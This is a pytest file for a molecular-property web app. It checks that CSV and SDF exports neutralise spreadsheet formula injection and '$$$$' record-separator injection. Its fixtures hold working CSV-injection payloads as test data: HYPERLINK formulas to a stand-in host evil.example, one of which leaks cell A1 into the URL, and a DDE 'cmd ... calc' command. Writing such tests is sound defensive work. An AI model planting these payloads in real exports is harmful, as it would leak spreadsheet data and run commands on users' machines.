"""Exports written from user text: no spreadsheet formula runs, no SD record breaks.

OWASP's CSV-injection rule: a text cell starting with = + - @ TAB or CR gets a leading `'`;
numbers we computed are written as numbers (negative ones included).
"""

import csv
import io

import pytest
from rdkit import Chem

from batches import services
from batches.files import exports
from batches.models import Batch
from molfiles.tables import safe_cell

HOSTILE_HEADERS = ['=HYPERLINK("http://evil.example","h")', "@note"]
HOSTILE_ROWS = [
    # id, smiles, carried columns...
    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "c1ccc2ccccc2c1", "+1+2", "-3.5"],
    ["@A-2", "=cmd|' /C calc'!A0", "\t@SUM(1,2)", "\r=1"],
    ["-A3", "CCO", "=1", "2"],
]


def _csv_text(rows) -> str:
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)  # CRLF, as spreadsheets write: a lone CR is quoted
    return buffer.getvalue()


@pytest.fixture
def hostile_batch(db, predictor):
    text = _csv_text([["id", "smiles", *HOSTILE_HEADERS], *HOSTILE_ROWS])
    batch = services.batch_create(text=text)
    assert services.batch_run(batch_pk=batch.pk) == Batch.Status.DONE
    batch.refresh_from_db()
    return batch


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+2", "'=1+2"),
        ("+1+2", "'+1+2"),
        ("-1+2", "'-1+2"),
        ("@SUM(1,2)", "'@SUM(1,2)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-3.5", "-3.5"),  # user text that is a plain number stays a number
        ("+1e-3", "+1e-3"),
        ("CCO", "CCO"),
        ("", ""),
        (-4.15, -4.15),
        (3, 3),
        # After leading spaces, and in full-width or small forms (issue 21, Low)
        (" =1+2", "' =1+2"),
        ("\u00a0@SUM(1)", "'\u00a0@SUM(1)"),
        ("＝HYPERLINK(1)", "'＝HYPERLINK(1)"),
        ("＋1+2", "'＋1+2"),
        ("－1+2", "'－1+2"),
        ("＠SUM(1)", "'＠SUM(1)"),
        ("﹦1", "'﹦1"),
        ("\u3000＝1", "'\u3000＝1"),
        (" -3.5", " -3.5"),  # still a plain number
        ("a =1", "a =1"),
    ],
)
def test_safe_cell(value, written):
    assert safe_cell(value) == written


def test_results_csv_neutralises_every_user_cell_and_keeps_numbers(client, hostile_batch):
    text = "".join(exports.stream_csv(hostile_batch))
    header, *rows = list(csv.reader(io.StringIO(text)))
    assert header[1:4] == ["id", '\'=HYPERLINK("http://evil.example","h")', "'@note"]
    assert [row[1] for row in rows] == [
        '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "'@A-2",
        "'-A3",
    ]
    assert [row[2:5] for row in rows] == [
        ["'+1+2", "-3.5", "c1ccc2ccccc2c1"],
        ["'\t@SUM(1,2)", "'\n=1", "'=cmd|' /C calc'!A0"],
        ["'=1", "2", "CCO"],
    ]
    assert rows[1][header.index("status")] == "error"  # the failed input, neutralised above
    for cell in [*header, *(cell for row in rows for cell in row)]:
        assert safe_cell(cell) == cell, cell  # nothing left that a spreadsheet would run
    values = [float(row[i]) for row in rows for i in (6, 7) if row[i]]
    assert len(values) == 4 and any(v < 0 for v in values)  # computed negatives stay numbers


def test_single_prediction_values_csv_is_neutralised(client, make_prediction):
    prediction = make_prediction("CCO", title='=HYPERLINK("http://evil.example")')
    response = client.get(f"/predictions/{prediction.public_id}/values.csv")
    header, row = list(csv.reader(io.StringIO(response.content.decode())))
    record = dict(zip(header, row, strict=True))
    assert record["title"] == '\'=HYPERLINK("http://evil.example")'
    assert float(record["Hydration free energy (ΔG_hyd) [kcal/mol]"]) < 0  # no quote prefix


def test_an_id_with_a_newline_round_trips_through_sdf(db, predictor):
    text = _csv_text(
        [["id", "smiles", "note"], ["ACME\n001", "CCO", "two\r\nlines"], ["B", "CCN", "x"]]
    )
    batch = services.batch_create(text=text)
    assert services.batch_run(batch_pk=batch.pk) == Batch.Status.DONE
    supplier = Chem.SDMolSupplier()
    supplier.SetData("".join(exports.stream_sdf(batch)))
    records = [(m.GetProp("_Name"), m.GetProp("note"), m.GetProp("row")) for m in supplier]
    assert records == [("ACME 001", "two lines", "1"), ("B", "x", "2")]


def test_a_record_separator_in_an_id_or_value_does_not_end_the_sd_record(db, predictor):
    """`$$$$` as a compound ID or a field value would end the record for line-based readers."""
    from django.core.files.uploadedfile import SimpleUploadedFile

    text = _csv_text([["id", "smiles", "note"], ["$$$$", "CCO", "$$$$"], ["B", "CCN", "$$$$ x"]])
    batch = services.batch_create(upload=SimpleUploadedFile("ids.csv", text.encode()))
    assert services.batch_run(batch_pk=batch.pk) == Batch.Status.DONE
    sdf = "".join(exports.stream_sdf(batch))
    lines = sdf.splitlines()
    # A line-based reader ends a record at a line starting $$$$: two records, two such lines.
    assert [n for n, line in enumerate(lines) if line.startswith("$$$$")] == [
        n for n, line in enumerate(lines) if line == "$$$$"
    ]
    assert sum(line == "$$$$" for line in lines) == 2 and lines[-1] == "$$$$"
    supplier = Chem.SDMolSupplier()
    supplier.SetData(sdf)
    found = [(m.GetProp("_Name"), m.GetProp("note"), m.GetProp("row")) for m in supplier]
    assert found == [("'$$$$", "'$$$$", "1"), ("B", "'$$$$ x", "2")]
